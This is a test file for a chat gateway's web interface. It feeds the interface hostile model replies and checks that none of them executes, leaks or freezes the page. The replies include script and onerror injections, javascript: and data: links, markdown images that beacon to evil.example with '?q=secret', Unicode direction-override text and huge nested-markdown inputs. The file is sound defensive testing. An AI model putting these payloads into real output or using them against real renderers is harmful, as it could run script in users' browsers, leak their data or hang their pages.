// What a hostile model says does nothing: nothing runs, nothing leaves, nothing freezes.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { launch, open } from "./support/browser.mjs";
import { startGateway } from "./support/gateway.mjs";
import { startUpstream } from "./support/upstream.mjs";

const texts = {
  html: "<script>globalThis.ran = 1</script><img src=x onerror='globalThis.ran = 2'><iframe src='javascript:globalThis.ran=3'></iframe>\n\n<b>bold</b>",
  links: "[one](javascript:globalThis.ran=4) [two](data:text/html,<script>1</script>) [three](https://evil.example/?q=secret) <https://evil.example/auto> [vb](vbscript:x)",
  pictures: "![look](https://evil.example/pixel.png?q=secret) ![ref][r]\n\n[r]: https://evil.example/second.png\n\n![own](data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==)",
  line: `${"x".repeat(1_000_000)}`,
  rtl: "Pay \u202eecila\u202c now, and zero\u200bwidth",
  quotes: `${"> ".repeat(20_000)}deep`,
  lists: `${"- ".repeat(20_000)}deep`,
  brackets: `${"[".repeat(50_000)}${"]".repeat(50_000)}`,
  stars: `${"*a ".repeat(30_000)}`,
  underscores: `${"_a__b".repeat(20_000)}`,
  ticks: `${"`".repeat(50_000)} a ${"``` ".repeat(10_000)}`,
  table: `|${"a|".repeat(3000)}\n|${"-|".repeat(3000)}\n${`|${"b|".repeat(3000)}\n`.repeat(3)}`,
  entities: `${"&lt;".repeat(100_000)}`,
};

let gateway;
let browser;
let upstream;
before(async () => {
  upstream = await startUpstream((question) => [texts[question.trim()] ?? "Yes."]);
  const more = `${upstream.configuration}memory:\n  enabled: false\n`;
  [gateway, browser] = await Promise.all([startGateway({ more }), launch()]);
  await gateway.call("POST", "/agents", { id: "hostile", model: { provider: "scripted" } });
});
after(async () => {
  await browser?.close();
  await gateway?.stop();
  await upstream?.stop();
});

for (const name of Object.keys(texts)) {
  test(name, async () => {
    const session = await gateway.call("POST", "/sessions", { agent_id: "hostile", surface: "test", surface_id: name });
    await gateway.call("POST", "/chat", { agent_id: "hostile", session_id: session.id, message: name });
    const seat = await open(browser, gateway);
    const { page } = seat;
    await page.addInitScript(() => {
      globalThis.longest = 0;
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) globalThis.longest = Math.max(globalThis.longest, entry.duration);
      }).observe({ type: "longtask", buffered: true });
    });
    await seat.signIn("owner@example.org", `chat/${session.id}`);
    await page.getByRole("link", { name: "trace" }).waitFor();
    assert.equal(await page.evaluate(() => globalThis.ran), undefined, "something ran");
    const longest = await page.evaluate(() => globalThis.longest);
    // A page that is frozen answers none of this in time; how long it took is for people to read.
    if (name === "html") await page.getByText("<script>globalThis.ran = 1</script>").first().waitFor();
    if (name === "links") {
      const links = await page.locator(".markdown a").evaluateAll((all) => all.map(({ href, rel }) => `${href} ${rel}`));
      assert.deepEqual(links, [
        "https://evil.example/?q=secret noopener noreferrer",
        "https://evil.example/auto noopener noreferrer",
      ]);
      assert.equal(await page.getByText("(evil.example)").count(), 2);
    }
    if (name === "pictures") assert.equal(await page.locator(".markdown img").count(), 1);
    if (name === "rtl") await page.getByText("U+202E").waitFor();
    await seat.accessible(name);
    console.log(`# ${name}: longest task ${Math.round(longest)} ms`);
    await seat.leave();
  });
}
